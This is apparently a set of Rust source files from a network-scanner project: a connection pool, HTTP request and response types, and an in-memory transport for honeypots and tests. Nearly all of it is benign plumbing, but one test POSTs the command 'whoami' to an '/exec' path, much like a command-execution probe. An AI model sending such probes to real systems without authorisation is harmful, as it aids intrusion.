                .is_some_and(|queue| queue.is_empty())
            {
                state.by_endpoint.remove(&key);
            }
            found
        };
        for _ in 0..expired {
            self.record(PoolEvent::Expired);
        }
        found
    }

    /// Return a reusable connection, evicting the oldest idle ones
    /// until both the per-endpoint cap and the global bound hold.
    fn check_in(&self, key: PoolKey, conn: C, created_at: u64, buf: Option<BytesMut>) {
        let now = self.now.load(Ordering::Relaxed);
        let mut evicted = 0u64;
        {
            let mut state = self.lock();
            let seq = state.next_seq;
            state.next_seq += 1;
            let entry = IdleEntry {
                seq,
                created_at,
                checked_in_at: now,
                buf,
                conn,
            };
            let over_cap = {
                let queue = state.by_endpoint.entry(key).or_default();
                queue.push_back(entry);
                queue.len() > self.config.max_idle_per_endpoint
            };
            state.total += 1;
            if over_cap {
                if let Some(queue) = state.by_endpoint.get_mut(&key) {
                    queue.pop_front();
                    state.total -= 1;
                    evicted += 1;
                }
            }
            while state.total > self.config.max_idle_total {
                let oldest = state
                    .by_endpoint
                    .iter()
                    .filter_map(|(k, queue)| queue.front().map(|entry| (entry.seq, *k)))
                    .min_by_key(|(seq, _)| *seq);
                let Some((_, victim)) = oldest else { break };
                if let Some(queue) = state.by_endpoint.get_mut(&victim) {
                    queue.pop_front();
                    state.total -= 1;
                    evicted += 1;
                    if queue.is_empty() {
                        state.by_endpoint.remove(&victim);
                    }
                }
            }
        }
        self.stats.checked_in.fetch_add(1, Ordering::Relaxed);
        for _ in 0..evicted {
            self.record(PoolEvent::Evicted);
        }
    }

    fn idle_count(&self) -> usize {
        self.lock().total
    }
}

/// Transport wrapper adding keep-alive connection reuse. Clones share
/// one pool, so a transport cloned into concurrent pipeline shards
/// still rides warm connections.
pub struct PooledTransport<T: Transport> {
    inner: Arc<T>,
    shared: Arc<PoolShared<T::Conn>>,
}

impl<T: Transport> Clone for PooledTransport<T> {
    fn clone(&self) -> Self {
        PooledTransport {
            inner: Arc::clone(&self.inner),
            shared: Arc::clone(&self.shared),
        }
    }
}

impl<T: Transport> std::fmt::Debug for PooledTransport<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PooledTransport")
            .field("config", &self.shared.config)
            .field("idle", &self.shared.idle_count())
            .finish_non_exhaustive()
    }
}

impl<T: Transport> PooledTransport<T> {
    /// Pool `inner` with default sizing.
    pub fn new(inner: T) -> Self {
        Self::with_config(inner, PoolConfig::default())
    }

    /// Pool `inner` with explicit sizing.
    pub fn with_config(inner: T, config: PoolConfig) -> Self {
        PooledTransport {
            inner: Arc::new(inner),
            shared: Arc::new(PoolShared {
                config,
                idle: Mutex::new(IdleState::default()),
                stats: PoolStats::default(),
                observer: None,
                now: AtomicU64::new(0),
            }),
        }
    }

    /// Attach a callback invoked on every pool event — the scanner
    /// bridges this into its telemetry registry (`transport.pool.*`
    /// counters) without this crate depending on it.
    pub fn with_observer(self, observer: impl Fn(PoolEvent) + Send + Sync + 'static) -> Self {
        PooledTransport {
            inner: self.inner,
            shared: Arc::new(PoolShared {
                config: self.shared.config,
                idle: Mutex::new(IdleState::default()),
                stats: PoolStats::default(),
                observer: Some(Arc::new(observer)),
                now: AtomicU64::new(0),
            }),
        }
    }

    /// The wrapped transport.
    pub fn inner(&self) -> &T {
        &self.inner
    }

    /// Shared lifecycle counters.
    pub fn stats(&self) -> &PoolStats {
        &self.shared.stats
    }

    /// Idle connections currently pooled, across all endpoints.
    pub fn idle_count(&self) -> usize {
        self.shared.idle_count()
    }

    /// Drop every idle connection.
    pub fn purge(&self) {
        let mut state = self.shared.lock();
        state.by_endpoint.clear();
        state.total = 0;
    }

    /// Current virtual-clock tick.
    pub fn clock(&self) -> u64 {
        self.shared.now.load(Ordering::Relaxed)
    }

    /// Advance the pool's virtual clock by `ticks` and sweep out every
    /// idle connection that the new time expires. The pool has no
    /// notion of wall time — a scan loop (or a test) decides what a
    /// tick means and calls this at its own cadence; with no expiry
    /// configured the sweep is a no-op walk.
    pub fn advance_clock(&self, ticks: u64) {
        let now = self.shared.now.fetch_add(ticks, Ordering::Relaxed) + ticks;
        let mut expired = 0u64;
        {
            let mut state = self.shared.lock();
            state.by_endpoint.retain(|_, queue| {
                queue.retain(|entry| {
                    let keep = !self.shared.is_expired(entry, now);
                    if !keep {
                        expired += 1;
                    }
                    keep
                });
                !queue.is_empty()
            });
            state.total -= expired as usize;
        }
        for _ in 0..expired {
            self.shared.record(PoolEvent::Expired);
        }
    }

    fn wrap(
        &self,
        conn: T::Conn,
        key: PoolKey,
        reused: bool,
        created_at: u64,
        buf: Option<BytesMut>,
    ) -> PooledConn<T::Conn> {
        PooledConn {
            inner: Some(conn),
            key,
            shared: Arc::clone(&self.shared),
            reused,
            reusable: false,
            created_at,
            buf,
        }
    }
}

impl<T: Transport> Transport for PooledTransport<T> {
    type Conn = PooledConn<T::Conn>;

    async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
        self.inner.probe(ep).await
    }

    async fn sweep_block(&self, block: Cidr, ports: &[u16]) -> BlockSweepResult {
        self.inner.sweep_block(block, ports).await
    }

    async fn connect(&self, ep: Endpoint, scheme: Scheme) -> Result<Self::Conn> {
        let key = (ep, scheme);
        if let Some((conn, created_at, buf)) = self.shared.check_out(key) {
            self.shared.record(PoolEvent::Hit);
            return Ok(self.wrap(conn, key, true, created_at, buf));
        }
        self.shared.record(PoolEvent::Miss);
        let conn = self.inner.connect(ep, scheme).await?;
        let now = self.shared.now.load(Ordering::Relaxed);
        Ok(self.wrap(conn, key, false, now, None))
    }

    async fn connect_fresh(&self, ep: Endpoint, scheme: Scheme) -> Result<Self::Conn> {
        // Only the client's stale-retry path calls this: a pooled
        // connection died under the first attempt, so the pool is
        // bypassed (another idle one could be a second corpse) and the
        // attempt is metered.
        self.shared.record(PoolEvent::StaleRetry);
        let conn = self.inner.connect_fresh(ep, scheme).await?;
        let now = self.shared.now.load(Ordering::Relaxed);
        Ok(self.wrap(conn, (ep, scheme), false, now, None))
    }

    fn supports_reuse(&self) -> bool {
        true
    }
}

/// A connection checked out of (or destined for) the pool. Checks
/// itself back in on drop if the client marked the last exchange
/// reusable; otherwise the underlying connection is torn down.
pub struct PooledConn<C: Connection> {
    inner: Option<C>,
    key: PoolKey,
    shared: Arc<PoolShared<C>>,
    reused: bool,
    reusable: bool,
    /// Virtual-clock tick the underlying connection was dialed at,
    /// carried across check-ins so lifetime expiry sees the true age.
    created_at: u64,
    /// Recycled read buffer, riding along between exchanges.
    buf: Option<BytesMut>,
}

impl<C: Connection> PooledConn<C> {
    fn conn(&mut self) -> &mut C {
        self.inner
            .as_mut()
            .expect("connection only vacated on drop")
    }

    /// The underlying connection.
    pub fn get_ref(&self) -> &C {
        self.inner
            .as_ref()
            .expect("connection only vacated on drop")
    }
}

impl<C: Connection> Drop for PooledConn<C> {
    fn drop(&mut self) {
        if let Some(conn) = self.inner.take() {
            if self.reusable {
                self.shared
                    .check_in(self.key, conn, self.created_at, self.buf.take());
            } else {
                self.shared.stats.discarded.fetch_add(1, Ordering::Relaxed);
            }
        }
    }
}

impl<C: Connection> AsyncRead for PooledConn<C> {
    fn poll_read(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<std::io::Result<()>> {
        Pin::new(self.conn()).poll_read(cx, buf)
    }
}

impl<C: Connection> AsyncWrite for PooledConn<C> {
    fn poll_write(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<std::io::Result<usize>> {
        Pin::new(self.conn()).poll_write(cx, buf)
    }

    fn poll_flush(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Pin::new(self.conn()).poll_flush(cx)
    }

    fn poll_shutdown(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Pin::new(self.conn()).poll_shutdown(cx)
    }
}

impl<C: Connection> Connection for PooledConn<C> {
    fn certificate(&self) -> Option<CertificateInfo> {
        self.get_ref().certificate()
    }

    fn is_reused(&self) -> bool {
        self.reused
    }

    fn set_reusable(&mut self, reusable: bool) {
        self.reusable = reusable;
    }

    fn take_recycled_buf(&mut self) -> Option<BytesMut> {
        self.buf.take()
    }

    fn store_recycled_buf(&mut self, buf: BytesMut) {
        self.buf = Some(buf);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;
    use std::sync::atomic::AtomicU32;

    /// Hands out numbered in-memory connections; no sockets involved.
    struct FakeTransport {
        dialed: AtomicU32,
    }

    impl FakeTransport {
        fn new() -> Self {
            FakeTransport {
                dialed: AtomicU32::new(0),
            }
        }
    }

    struct FakeConn {
        id: u32,
    }

    impl AsyncRead for FakeConn {
        fn poll_read(
            self: Pin<&mut Self>,
            _cx: &mut Context<'_>,
            _buf: &mut ReadBuf<'_>,
        ) -> Poll<std::io::Result<()>> {
            Poll::Ready(Ok(())) // permanent EOF
        }
    }

    impl AsyncWrite for FakeConn {
        fn poll_write(
            self: Pin<&mut Self>,
            _cx: &mut Context<'_>,
            buf: &[u8],
        ) -> Poll<std::io::Result<usize>> {
            Poll::Ready(Ok(buf.len()))
        }

        fn poll_flush(self: Pin<&mut Self>, _cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
            Poll::Ready(Ok(()))
        }

        fn poll_shutdown(self: Pin<&mut Self>, _cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
            Poll::Ready(Ok(()))
        }
    }

    impl Connection for FakeConn {}

    impl Transport for FakeTransport {
        type Conn = FakeConn;

        async fn probe(&self, _ep: Endpoint) -> ProbeOutcome {
            ProbeOutcome::Open
        }

        async fn connect(&self, _ep: Endpoint, _scheme: Scheme) -> Result<FakeConn> {
            Ok(FakeConn {
                id: self.dialed.fetch_add(1, Ordering::Relaxed),
            })
        }
    }

    fn ep(last: u8) -> Endpoint {
        Endpoint::new(Ipv4Addr::new(10, 0, 0, last), 80)
    }

    /// Connect, mark reusable, and drop — i.e. one clean exchange.
    async fn cycle(pool: &PooledTransport<FakeTransport>, ep: Endpoint) -> u32 {
        let mut conn = pool.connect(ep, Scheme::Http).await.unwrap();
        let id = conn.get_ref().id;
        conn.set_reusable(true);
        id
    }

    #[tokio::test]
    async fn checkout_is_fifo_and_counts_hits() {
        let pool = PooledTransport::new(FakeTransport::new());
        let first = cycle(&pool, ep(1)).await;
        assert_eq!(pool.idle_count(), 1);
        let again = cycle(&pool, ep(1)).await;
        assert_eq!(first, again, "the idle connection is reused");
        assert_eq!(pool.stats().hits(), 1);
        assert_eq!(pool.stats().misses(), 1);
        assert_eq!(pool.stats().checked_in(), 2);
    }

    #[tokio::test]
    async fn unmarked_connections_are_discarded_not_pooled() {
        let pool = PooledTransport::new(FakeTransport::new());
        let conn = pool.connect(ep(1), Scheme::Http).await.unwrap();
        drop(conn); // never set_reusable(true)
        assert_eq!(pool.idle_count(), 0);
        assert_eq!(pool.stats().discarded(), 1);
        assert_eq!(pool.stats().hits() + pool.stats().misses(), 1);
    }

    #[tokio::test]
    async fn per_endpoint_cap_evicts_the_oldest() {
        let pool = PooledTransport::with_config(
            FakeTransport::new(),
            PoolConfig {
                max_idle_per_endpoint: 1,
                ..PoolConfig::default()
            },
        );
        // Two concurrent checkouts force two dials; both check in, the
        // cap keeps only the newer one.
        let a = pool.connect(ep(1), Scheme::Http).await.unwrap();
        let b = pool.connect(ep(1), Scheme::Http).await.unwrap();
        let (a_id, b_id) = (a.get_ref().id, b.get_ref().id);
        for mut conn in [a, b] {
            conn.set_reusable(true);
        }
        assert_eq!(pool.idle_count(), 1);
        assert_eq!(pool.stats().evicted(), 1);
        let survivor = cycle(&pool, ep(1)).await;
        assert_eq!(survivor, b_id, "oldest ({a_id}) was evicted");
    }

    #[tokio::test]
    async fn global_bound_evicts_across_endpoints() {
        let pool = PooledTransport::with_config(
            FakeTransport::new(),
            PoolConfig {
                max_idle_per_endpoint: 4,
                max_idle_total: 2,
                ..PoolConfig::default()
            },
        );
        let first = cycle(&pool, ep(1)).await;
        cycle_distinct(&pool, ep(2)).await;
        cycle_distinct(&pool, ep(3)).await;
        assert_eq!(pool.idle_count(), 2, "global bound holds");
        assert_eq!(pool.stats().evicted(), 1);
        // ep(1) held the globally oldest connection; it is gone.
        let redialed = cycle(&pool, ep(1)).await;
        assert_ne!(redialed, first);
        // Counter reconciliation: every connect is a hit or a miss, and
        // everything checked in was either evicted, reused, or is idle.
        let s = pool.stats();
        assert_eq!(s.hits() + s.misses(), 4);
        assert_eq!(
            s.checked_in(),
            s.evicted() + s.hits() + pool.idle_count() as u64
        );
    }

    /// Like `cycle` but via a distinct endpoint (no pool hit expected).
    async fn cycle_distinct(pool: &PooledTransport<FakeTransport>, ep: Endpoint) -> u32 {
        cycle(pool, ep).await
    }

    #[tokio::test]
    async fn connect_fresh_bypasses_the_pool_and_meters() {
        let pool = PooledTransport::new(FakeTransport::new());
        let warm = cycle(&pool, ep(1)).await;
        let mut fresh = pool.connect_fresh(ep(1), Scheme::Http).await.unwrap();
        assert_ne!(fresh.get_ref().id, warm, "pool must be bypassed");
        assert!(!fresh.is_reused());
        assert_eq!(pool.stats().stale_retries(), 1);
        assert_eq!(pool.idle_count(), 1, "idle connection left untouched");
        fresh.set_reusable(true);
        drop(fresh);
        assert_eq!(pool.idle_count(), 2, "fresh connections still pool");
    }

    #[tokio::test]
    async fn observer_sees_every_event() {
        let seen = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&seen);
        let pool = PooledTransport::with_config(
            FakeTransport::new(),
            PoolConfig {
                max_idle_per_endpoint: 1,
                ..PoolConfig::default()
            },
        )
        .with_observer(move |event| sink.lock().unwrap().push(event));
        let a = pool.connect(ep(1), Scheme::Http).await.unwrap();
        let b = pool.connect(ep(1), Scheme::Http).await.unwrap();
        for mut conn in [a, b] {
            conn.set_reusable(true);
        }
        cycle(&pool, ep(1)).await;
        let _ = pool.connect_fresh(ep(1), Scheme::Http).await.unwrap();
        let events = seen.lock().unwrap().clone();
        assert_eq!(
            events,
            vec![
                PoolEvent::Miss,
                PoolEvent::Miss,
                PoolEvent::Evicted,
                PoolEvent::Hit,
                PoolEvent::StaleRetry,
            ]
        );
    }

    #[tokio::test]
    async fn schemes_pool_separately() {
        let pool = PooledTransport::new(FakeTransport::new());
        cycle(&pool, ep(1)).await;
        // Same endpoint, different scheme: must not hit the HTTP pool.
        let conn = pool.connect(ep(1), Scheme::Https).await.unwrap();
        assert!(!conn.is_reused());
        assert_eq!(pool.stats().misses(), 2);
    }

    #[tokio::test]
    async fn purge_empties_the_pool() {
        let pool = PooledTransport::new(FakeTransport::new());
        cycle(&pool, ep(1)).await;
        cycle_distinct(&pool, ep(2)).await;
        assert_eq!(pool.idle_count(), 2);
        pool.purge();
        assert_eq!(pool.idle_count(), 0);
    }

    #[tokio::test]
    async fn idle_age_expiry_sweeps_on_clock_advance() {
        let pool = PooledTransport::with_config(
            FakeTransport::new(),
            PoolConfig {
                max_idle_age: Some(10),
                ..PoolConfig::default()
            },
        );
        let first = cycle(&pool, ep(1)).await;
        pool.advance_clock(10);
        assert_eq!(pool.idle_count(), 1, "exactly at the allowance stays");
        assert_eq!(pool.clock(), 10);
        pool.advance_clock(1);
        assert_eq!(pool.idle_count(), 0, "one tick past the allowance expires");
        assert_eq!(pool.stats().expired(), 1);
        // The next connect has to dial afresh.
        let redialed = cycle(&pool, ep(1)).await;
        assert_ne!(redialed, first);
        assert_eq!(pool.stats().misses(), 2);
    }

    #[tokio::test]
    async fn reuse_resets_the_idle_age() {
        let pool = PooledTransport::with_config(
            FakeTransport::new(),
            PoolConfig {
                max_idle_age: Some(10),
                ..PoolConfig::default()
            },
        );
        let first = cycle(&pool, ep(1)).await;
        pool.advance_clock(6);
        // Reuse at t=6 re-stamps the check-in time...
        assert_eq!(cycle(&pool, ep(1)).await, first);
        pool.advance_clock(6);
        // ...so at t=12 the entry has idled only 6 of its 10 ticks.
        assert_eq!(pool.idle_count(), 1);
        assert_eq!(pool.stats().expired(), 0);
    }

    #[tokio::test]
    async fn lifetime_expires_despite_steady_reuse() {
        let pool = PooledTransport::with_config(
            FakeTransport::new(),
            PoolConfig {
                max_lifetime: Some(10),
                ..PoolConfig::default()
            },
        );
        let first = cycle(&pool, ep(1)).await;
        pool.advance_clock(6);
        // Reuse keeps the idle age low, but the dial tick rides along.
        assert_eq!(cycle(&pool, ep(1)).await, first);
        pool.advance_clock(6);
        // t=12 > lifetime 10 counted from the original dial at t=0.
        assert_eq!(pool.idle_count(), 0);
        assert_eq!(pool.stats().expired(), 1);
    }

    #[tokio::test]
    async fn checkout_expires_lazily_without_a_sweep() {
        let pool = PooledTransport::with_config(
            FakeTransport::new(),
            PoolConfig {
                max_idle_age: Some(10),
                ..PoolConfig::default()
            },
        );
        let first = cycle(&pool, ep(1)).await;
        // Move time forward behind the sweep's back: the idle entry is
        // now expired but still sitting in the pool.
        pool.shared.now.store(20, Ordering::Relaxed);
        assert_eq!(pool.idle_count(), 1);
        // check_out walks past the corpse, meters it, and dials afresh.
        let conn = pool.connect(ep(1), Scheme::Http).await.unwrap();
        assert!(!conn.is_reused());
        assert_ne!(conn.get_ref().id, first);
        assert_eq!(pool.stats().expired(), 1);
        assert_eq!(pool.idle_count(), 0);
    }

    #[tokio::test]
    async fn expiry_reaches_the_observer() {
        let seen = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&seen);
        let pool = PooledTransport::with_config(
            FakeTransport::new(),
            PoolConfig {
                max_idle_age: Some(5),
                ..PoolConfig::default()
            },
        )
        .with_observer(move |event| sink.lock().unwrap().push(event));
        cycle(&pool, ep(1)).await;
        pool.advance_clock(6);
        let events = seen.lock().unwrap().clone();
        assert_eq!(events, vec![PoolEvent::Miss, PoolEvent::Expired]);
    }

    #[tokio::test]
    async fn recycled_buffer_rides_the_pool() {
        let pool = PooledTransport::new(FakeTransport::new());
        let mut conn = pool.connect(ep(1), Scheme::Http).await.unwrap();
        assert!(
            conn.take_recycled_buf().is_none(),
            "fresh connections carry no buffer"
        );
        conn.store_recycled_buf(BytesMut::with_capacity(4096));
        conn.set_reusable(true);
        drop(conn);
        let mut again = pool.connect(ep(1), Scheme::Http).await.unwrap();
        assert!(again.is_reused());
        let recycled = again
            .take_recycled_buf()
            .expect("the buffer survives the check-in/check-out cycle");
        assert_eq!(recycled.capacity(), 4096);
        assert!(
            again.take_recycled_buf().is_none(),
            "take hands the buffer over, not a copy"
        );
    }
}
