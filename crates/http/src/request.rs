//! HTTP request message.

use crate::headers::Headers;
use crate::method::Method;
use crate::version::Version;
use bytes::Bytes;

/// An HTTP/1.x request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    pub method: Method,
    /// Origin-form target: path plus optional query, e.g. `/api/v1/pods`.
    pub target: String,
    /// Protocol version from the request line; constructed requests are
    /// HTTP/1.1. The server loop uses it to decide whether the
    /// connection persists after the response.
    pub version: Version,
    pub headers: Headers,
    pub body: Bytes,
}

impl Request {
    /// A bodyless `GET` for `target`.
    pub fn get(target: impl Into<String>) -> Self {
        Request {
            method: Method::Get,
            target: normalize_target(target.into()),
            version: Version::default(),
            headers: Headers::new(),
            body: Bytes::new(),
        }
    }

    /// A `POST` carrying `body`.
    pub fn post(target: impl Into<String>, body: impl Into<Bytes>) -> Self {
        Request {
            method: Method::Post,
            target: normalize_target(target.into()),
            version: Version::default(),
            headers: Headers::new(),
            body: body.into(),
        }
    }

    /// Builder-style header addition.
    pub fn with_header(mut self, name: &str, value: &str) -> Self {
        self.headers.set(name, value);
        self
    }

    /// Path component of the target (no query string).
    pub fn path(&self) -> &str {
        match self.target.find('?') {
            Some(idx) => &self.target[..idx],
            None => &self.target,
        }
    }

    /// Query string without the `?`, if present.
    pub fn query(&self) -> Option<&str> {
        self.target.find('?').map(|idx| &self.target[idx + 1..])
    }

    /// Value of a single query parameter, percent-decoding not applied
    /// (scan targets never need it).
    pub fn query_param(&self, key: &str) -> Option<&str> {
        self.query()?
            .split('&')
            .filter_map(|kv| kv.split_once('='))
            .find(|(k, _)| *k == key)
            .map(|(_, v)| v)
    }

    /// Body interpreted as UTF-8 (lossy).
    pub fn body_text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

fn normalize_target(t: String) -> String {
    if t.is_empty() {
        "/".to_string()
    } else if !t.starts_with('/') {
        format!("/{t}")
    } else {
        t
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn get_normalizes_target() {
        assert_eq!(Request::get("").target, "/");
        assert_eq!(Request::get("x").target, "/x");
        assert_eq!(Request::get("/x").target, "/x");
    }

    #[test]
    fn path_and_query_split() {
        let r = Request::get("/install.php?step=1&lang=en");
        assert_eq!(r.path(), "/install.php");
        assert_eq!(r.query(), Some("step=1&lang=en"));
        assert_eq!(r.query_param("step"), Some("1"));
        assert_eq!(r.query_param("lang"), Some("en"));
        assert_eq!(r.query_param("missing"), None);
    }

    #[test]
    fn post_has_body() {
        let r = Request::post("/exec", "whoami");
        assert_eq!(r.method, Method::Post);
        assert_eq!(r.body_text(), "whoami");
    }

    #[test]
    fn with_header_sets() {
        let r = Request::get("/")
            .with_header("Host", "a")
            .with_header("host", "b");
        assert_eq!(r.headers.get("HOST"), Some("b"));
        assert_eq!(r.headers.len(), 1);
    }
}
