//! In-memory transport serving [`Handler`]s directly — no sockets, no
//! universe. Used to expose individual application instances (honeypots,
//! plugin tests, defender scans) to the exact same client code that runs
//! against real TCP.

use crate::encode::encode_response;
use crate::error::{Error, Result};
use crate::parse::{parse_request_incremental, HeadScanner, Limits, Parsed};
use crate::server::Handler;
use crate::transport::{Connection, Endpoint, ProbeOutcome, Scheme, Transport};
use bytes::{Buf, BytesMut};
use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::pin::Pin;
use std::sync::Arc;
use std::task::{Context, Poll};
use tokio::io::{AsyncRead, AsyncWrite, ReadBuf};

/// A transport with a static routing table from endpoints to handlers.
#[derive(Clone)]
pub struct HandlerTransport {
    routes: HashMap<Endpoint, Arc<dyn Handler>>,
    /// Source IP presented to handlers.
    source_ip: Ipv4Addr,
}

impl Default for HandlerTransport {
    fn default() -> Self {
        Self::new()
    }
}

impl HandlerTransport {
    pub fn new() -> Self {
        HandlerTransport {
            routes: HashMap::new(),
            source_ip: Ipv4Addr::new(198, 51, 100, 50),
        }
    }

    /// Serve `handler` at `ep` (both schemes accepted).
    pub fn mount(&mut self, ep: Endpoint, handler: Arc<dyn Handler>) {
        self.routes.insert(ep, handler);
    }

    /// Builder-style mount.
    pub fn with(mut self, ep: Endpoint, handler: Arc<dyn Handler>) -> Self {
        self.mount(ep, handler);
        self
    }

    /// Set the source IP handlers observe.
    pub fn with_source_ip(mut self, ip: Ipv4Addr) -> Self {
        self.source_ip = ip;
        self
    }

    /// Mounted endpoints.
    pub fn endpoints(&self) -> impl Iterator<Item = Endpoint> + '_ {
        self.routes.keys().copied()
    }
}

impl Transport for HandlerTransport {
    type Conn = HandlerConn;

    async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
        if self.routes.contains_key(&ep) {
            ProbeOutcome::Open
        } else {
            ProbeOutcome::Closed
        }
    }

    async fn connect(&self, ep: Endpoint, _scheme: Scheme) -> Result<HandlerConn> {
        match self.routes.get(&ep) {
            Some(handler) => Ok(HandlerConn {
                handler: Arc::clone(handler),
                peer: self.source_ip,
                write_buf: BytesMut::new(),
                read_buf: BytesMut::new(),
                scanner: HeadScanner::new(),
            }),
            None => Err(Error::Connect("connection refused".into())),
        }
    }
}

/// Connection to a mounted handler: request bytes in, response bytes out.
pub struct HandlerConn {
    handler: Arc<dyn Handler>,
    peer: Ipv4Addr,
    write_buf: BytesMut,
    read_buf: BytesMut,
    scanner: HeadScanner,
}

impl HandlerConn {
    fn pump(&mut self) {
        loop {
            match parse_request_incremental(&self.write_buf, &Limits::default(), &mut self.scanner)
            {
                Ok(Parsed::Complete(req, used)) => {
                    self.write_buf.advance(used);
                    self.scanner.reset();
                    let resp = self.handler.handle(&req, self.peer);
                    self.read_buf.extend_from_slice(&encode_response(&resp));
                }
                Ok(Parsed::Partial) => break,
                Err(_) => {
                    self.write_buf.clear();
                    self.scanner.reset();
                    break;
                }
            }
        }
    }
}

impl AsyncWrite for HandlerConn {
    fn poll_write(
        mut self: Pin<&mut Self>,
        _cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<std::io::Result<usize>> {
        self.write_buf.extend_from_slice(buf);
        self.pump();
        Poll::Ready(Ok(buf.len()))
    }

    fn poll_flush(self: Pin<&mut Self>, _cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Poll::Ready(Ok(()))
    }

    fn poll_shutdown(self: Pin<&mut Self>, _cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Poll::Ready(Ok(()))
    }
}

impl AsyncRead for HandlerConn {
    fn poll_read(
        mut self: Pin<&mut Self>,
        _cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<std::io::Result<()>> {
        if self.read_buf.is_empty() {
            return Poll::Ready(Ok(())); // EOF: server closes when idle.
        }
        let n = self.read_buf.len().min(buf.remaining());
        buf.put_slice(&self.read_buf[..n]);
        self.read_buf.advance(n);
        Poll::Ready(Ok(()))
    }
}

impl Connection for HandlerConn {}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::Client;
    use crate::request::Request;
    use crate::response::Response;
    use crate::url::Url;

    fn echo_handler() -> Arc<dyn Handler> {
        Arc::new(|req: &Request, peer: Ipv4Addr| {
            Response::text(format!("{} from {peer}", req.path()))
        })
    }

    #[tokio::test]
    async fn serves_mounted_handler() {
        let ep = Endpoint::new(Ipv4Addr::new(10, 9, 8, 7), 8080);
        let t = HandlerTransport::new().with(ep, echo_handler());
        assert_eq!(t.probe(ep).await, ProbeOutcome::Open);
        let client = Client::new(t);
        let fetched = client
            .get(&Url::for_ip(Scheme::Http, ep.ip, ep.port, "/hello"))
            .await
            .unwrap();
        assert!(fetched
            .response
            .body_text()
            .starts_with("/hello from 198.51.100.50"));
    }

    #[tokio::test]
    async fn unmounted_endpoints_refuse() {
        let t = HandlerTransport::new();
        let ep = Endpoint::new(Ipv4Addr::LOCALHOST, 80);
        assert_eq!(t.probe(ep).await, ProbeOutcome::Closed);
        let client = Client::new(t);
        let err = client
            .get(&Url::for_ip(Scheme::Http, ep.ip, ep.port, "/"))
            .await
            .unwrap_err();
        assert!(matches!(err, Error::Connect(_)));
    }

    #[tokio::test]
    async fn source_ip_is_configurable() {
        let ep = Endpoint::new(Ipv4Addr::new(10, 0, 0, 1), 80);
        let attacker = Ipv4Addr::new(203, 0, 113, 99);
        let t = HandlerTransport::new()
            .with(ep, echo_handler())
            .with_source_ip(attacker);
        let client = Client::new(t);
        let fetched = client
            .get(&Url::for_ip(Scheme::Http, ep.ip, ep.port, "/x"))
            .await
            .unwrap();
        assert!(fetched.response.body_text().contains("203.0.113.99"));
    }
}
