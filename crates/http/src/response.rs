//! HTTP response message.

use crate::headers::Headers;
use crate::status::StatusCode;
use crate::version::Version;
use bytes::Bytes;

/// An HTTP/1.x response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Response {
    pub status: StatusCode,
    /// Protocol version from the status line; constructed responses are
    /// HTTP/1.1. The client uses it to decide whether the connection
    /// may be reused (HTTP/1.0 defaults to close).
    pub version: Version,
    pub headers: Headers,
    pub body: Bytes,
}

impl Response {
    /// A response with the given status and empty body.
    pub fn new(status: StatusCode) -> Self {
        Response {
            status,
            version: Version::default(),
            headers: Headers::new(),
            body: Bytes::new(),
        }
    }

    /// `200 OK` with an HTML body.
    pub fn html(body: impl Into<Bytes>) -> Self {
        Response::new(StatusCode::OK)
            .with_header("Content-Type", "text/html; charset=utf-8")
            .with_body(body)
    }

    /// `200 OK` with a plain-text body.
    pub fn text(body: impl Into<Bytes>) -> Self {
        Response::new(StatusCode::OK)
            .with_header("Content-Type", "text/plain; charset=utf-8")
            .with_body(body)
    }

    /// `200 OK` with a JSON body.
    pub fn json(body: impl Into<Bytes>) -> Self {
        Response::new(StatusCode::OK)
            .with_header("Content-Type", "application/json")
            .with_body(body)
    }

    /// `404 Not Found` with a small HTML body.
    pub fn not_found() -> Self {
        Response::new(StatusCode::NOT_FOUND)
            .with_header("Content-Type", "text/html")
            .with_body("<html><body><h1>404 Not Found</h1></body></html>")
    }

    /// `401` challenge, as produced by password-protected admin panels.
    pub fn unauthorized(realm: &str) -> Self {
        Response::new(StatusCode::UNAUTHORIZED)
            .with_header(
                "WWW-Authenticate",
                format!("Basic realm=\"{realm}\"").as_str(),
            )
            .with_body("Authorization Required")
    }

    /// A `302 Found` redirect to `location`.
    pub fn redirect(location: &str) -> Self {
        Response::new(StatusCode::FOUND).with_header("Location", location)
    }

    /// Builder-style header addition.
    pub fn with_header(mut self, name: &str, value: &str) -> Self {
        self.headers.set(name, value);
        self
    }

    /// Builder-style body assignment.
    pub fn with_body(mut self, body: impl Into<Bytes>) -> Self {
        self.body = body.into();
        self
    }

    /// Body interpreted as UTF-8 (lossy); the prefilter and plugins match
    /// on this text.
    pub fn body_text(&self) -> String {
        self.body_str().into_owned()
    }

    /// Borrowing variant of [`body_text`](Self::body_text): clean UTF-8
    /// bodies (the common case) come back as a view into the response
    /// bytes; only bodies with invalid sequences allocate a repaired
    /// copy.
    pub fn body_str(&self) -> std::borrow::Cow<'_, str> {
        String::from_utf8_lossy(&self.body)
    }

    /// `Location` header for redirect handling.
    pub fn location(&self) -> Option<&str> {
        self.headers.get("location")
    }

    /// Whether this response should be followed by the client
    /// (redirect status *and* a Location header).
    pub fn is_followable_redirect(&self) -> bool {
